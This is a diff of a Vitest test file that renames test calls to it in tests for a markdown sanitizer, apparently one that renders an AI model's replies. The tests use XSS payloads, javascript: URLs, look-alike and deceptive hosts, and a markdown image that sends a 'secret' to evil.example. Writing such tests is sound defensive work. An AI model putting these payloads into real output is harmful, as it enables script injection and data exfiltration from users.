@@ -1,8 +1,8 @@
-import { describe, expect, test } from "vitest";
+import { describe, expect, it } from "vitest";
 import { markdownHtml } from "../../../src/webview/markdown/markdown-html";
 
 describe("a model's markdown", () => {
-  test.each([
+  it.each([
     ["a script", "<script>alert(1)</script>"],
     ["a picture tag", "<img src=https://evil.example/x onerror=alert(1)>"],
     ["a style", "<style>body{display:none}</style>"],
@@ -14,7 +14,7 @@ describe("a model's markdown", () => {
     expect(html).toContain("&lt;");
   });
 
-  test("shows a picture's words and never its address", () => {
+  it("shows a picture's words and never its address", () => {
     const html = markdownHtml(
       "![a secret](https://evil.example/?d=secret) and ![x][1]\n\n[1]: https://evil.example/y",
     );
@@ -22,7 +22,7 @@ describe("a model's markdown", () => {
     expect(html).not.toMatch(/img|evil/);
   });
 
-  test.each([
+  it.each([
     "javascript:alert(1)",
     "JaVaScRiPt:alert(1)",
     "data:text/html,x",
@@ -38,13 +38,13 @@ describe("a model's markdown", () => {
     expect(html).not.toMatch(/<a|href/);
   });
 
-  test("an https link says which host it leads to, also when its words pretend another", () => {
+  it("an https link says which host it leads to, also when its words pretend another", () => {
     const html = markdownHtml("See [https://good.example](https://evil.example/path)");
     expect(html).toContain('href="https://evil.example/path"');
     expect(html).toContain('<span class="host">(evil.example)</span>');
   });
 
-  test.each([
+  it.each([
     "https://good.example/login?from=evil.example",
     "good.example.evil.example",
     "https://good.example@evil.example/",
@@ -54,16 +54,16 @@ describe("a model's markdown", () => {
     );
   });
 
-  test("a host in look-alike letters shows its real name", () => {
+  it("a host in look-alike letters shows its real name", () => {
     expect(markdownHtml("[bank](https://b\u0430nk.example/)")).toContain("(xn--");
   });
 
-  test("an address that stands for itself is not said twice, and bare addresses are no links", () => {
+  it("an address that stands for itself is not said twice, and bare addresses are no links", () => {
     expect(markdownHtml("<https://docs.example/x>")).not.toContain('class="host"');
     expect(markdownHtml("https://docs.example/x")).not.toContain("<a");
   });
 
-  test("the language of a code block cannot carry anything but a name", () => {
+  it("the language of a code block cannot carry anything but a name", () => {
     expect(markdownHtml('```py"><img src=x>\ncode\n```')).toContain(
       '<pre data-language="py"><code>code',
     );
